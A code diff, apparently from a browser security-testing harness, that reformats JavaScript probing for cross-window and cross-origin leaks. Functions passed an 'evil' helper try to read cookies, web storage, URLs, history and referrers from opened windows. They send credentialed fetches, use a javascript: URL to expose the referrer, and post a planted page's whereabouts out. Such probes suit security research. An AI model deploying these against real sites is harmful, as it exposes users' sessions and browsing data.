@@ -5,9 +5,21 @@
 export function startFlow(evil, { url, where }) {
   const seen = new Set();
   const tries = [
-    (w) => w.location.href, (w) => w.name, (w) => w.document.URL, (w) => w.document.referrer, (w) => w.document.documentElement.outerHTML, (w) => w.document.cookie,
-    (w) => w.history.state, (w) => w.navigation.entries().map((entry) => entry.url), (w) => w.navigation.currentEntry.url, (w) => w.performance.getEntries().map(({ name }) => name),
-    (w) => w.opener.location.href, (w) => w.frameElement.src, (w) => w.frames[0].location.href, (w) => Object.entries(w.sessionStorage), (w) => Object.entries(w.localStorage),
+    (w) => w.location.href,
+    (w) => w.name,
+    (w) => w.document.URL,
+    (w) => w.document.referrer,
+    (w) => w.document.documentElement.outerHTML,
+    (w) => w.document.cookie,
+    (w) => w.history.state,
+    (w) => w.navigation.entries().map((entry) => entry.url),
+    (w) => w.navigation.currentEntry.url,
+    (w) => w.performance.getEntries().map(({ name }) => name),
+    (w) => w.opener.location.href,
+    (w) => w.frameElement.src,
+    (w) => w.frames[0].location.href,
+    (w) => Object.entries(w.sessionStorage),
+    (w) => Object.entries(w.localStorage),
   ];
   const look = (w) => {
     for (const attempt of tries) {
@@ -45,8 +57,12 @@ export function startFlow(evil, { url, where }) {
     return () => opened;
   };
   addEventListener("message", ({ data }) => seen.add(JSON.stringify(evil.strings(data))));
-  addEventListener("securitypolicyviolation", (event) => seen.add([event.blockedURI, event.documentURI, event.sourceFile, event.originalPolicy].join()));
-  new PerformanceObserver((list) => list.getEntries().forEach(({ name }) => seen.add(name))).observe({ entryTypes: ["resource", "navigation"] });
+  addEventListener("securitypolicyviolation", (event) =>
+    seen.add([event.blockedURI, event.documentURI, event.sourceFile, event.originalPolicy].join()),
+  );
+  new PerformanceObserver((list) => list.getEntries().forEach(({ name }) => seen.add(name))).observe({
+    entryTypes: ["resource", "navigation"],
+  });
   // Going back in a frame may be going back here.
   for (let at = 0; at < 4; at += 1) history.pushState(at, "");
   const opened = places[where]();
@@ -55,7 +71,8 @@ export function startFlow(evil, { url, where }) {
   function sendForm(target, name) {
     const { origin, pathname, searchParams } = new URL(target);
     const form = Object.assign(document.createElement("form"), { method: "get", action: origin + pathname, target: name });
-    for (const [field, value] of searchParams) form.append(Object.assign(document.createElement("input"), { type: "hidden", name: field, value }));
+    for (const [field, value] of searchParams)
+      form.append(Object.assign(document.createElement("input"), { type: "hidden", name: field, value }));
     document.documentElement.append(form);
     form.submit();
   }
@@ -82,7 +99,12 @@ export async function endFlow(evil, { bare }) {
   opened.location.href = bare;
   await readable();
   look();
-  for (const move of [() => opened.history.back(), () => opened.navigation.back(), () => (opened.location.hash = "x"), () => (opened.location.href = "javascript:'' + document.referrer + location.href")]) {
+  for (const move of [
+    () => opened.history.back(),
+    () => opened.navigation.back(),
+    () => (opened.location.hash = "x"),
+    () => (opened.location.href = "javascript:'' + document.referrer + location.href"),
+  ]) {
     try {
       move();
     } catch {
@@ -103,11 +125,24 @@ export async function askQuietly(evil, { url }) {
   for (const mode of ["cors", "no-cors"]) {
     for (const redirect of ["follow", "manual", "error"]) {
       const answer = await fetch(url, { mode, redirect, credentials: "include" }).catch((error) => error);
-      note([answer, answer.url, answer.type, String(answer.message), answer.headers && [...answer.headers], await answer.text?.().catch(() => "")]);
+      note([
+        answer,
+        answer.url,
+        answer.type,
+        String(answer.message),
+        answer.headers && [...answer.headers],
+        await answer.text?.().catch(() => ""),
+      ]);
     }
   }
   const loaded = (element) => new Promise((resolve) => Object.assign(element, { onload: resolve, onerror: resolve }));
-  for (const [name, more] of [["script", { src: url }], ["img", { src: url }], ["link", { rel: "stylesheet", href: url }], ["link", { rel: "prefetch", href: url }], ["video", { src: url }]]) {
+  for (const [name, more] of [
+    ["script", { src: url }],
+    ["img", { src: url }],
+    ["link", { rel: "stylesheet", href: url }],
+    ["link", { rel: "prefetch", href: url }],
+    ["video", { src: url }],
+  ]) {
     const element = Object.assign(document.createElement(name), more);
     const done = loaded(element);
     document.documentElement.append(element);
@@ -120,6 +155,13 @@ export async function askQuietly(evil, { url }) {
 
 /** Planted: tells what a page of the app's origin can know of where its tab was. */
 export function tellWhereabouts(evil) {
-  const known = [location.href, document.referrer, name, history.state, navigation.entries().map(({ url }) => url), navigation.activation?.from?.url];
+  const known = [
+    location.href,
+    document.referrer,
+    name,
+    history.state,
+    navigation.entries().map(({ url }) => url),
+    navigation.activation?.from?.url,
+  ];
   evil.post(JSON.stringify([known, performance.getEntries().map((entry) => entry.toJSON())]));
 }
